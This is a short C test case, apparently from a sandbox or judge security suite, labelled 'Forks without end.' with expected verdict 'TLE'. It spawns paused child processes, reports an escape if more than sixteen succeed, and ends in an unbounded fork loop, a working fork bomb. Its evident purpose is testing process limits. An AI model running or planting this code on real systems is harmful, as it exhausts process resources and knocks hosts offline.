//: intent = "Forks without end."
//: verdict = "TLE"
#include "attack.h"

int main(void) {
    int made = 0;
    for (int i = 0; i < 64; i++) {
        pid_t child = fork();
        if (child == 0) {
            pause();
            _exit(0);
        }
        made += child > 0;
    }
    if (made > 16)
        escaped("%d processes", made);
    for (;;)
        fork();
}
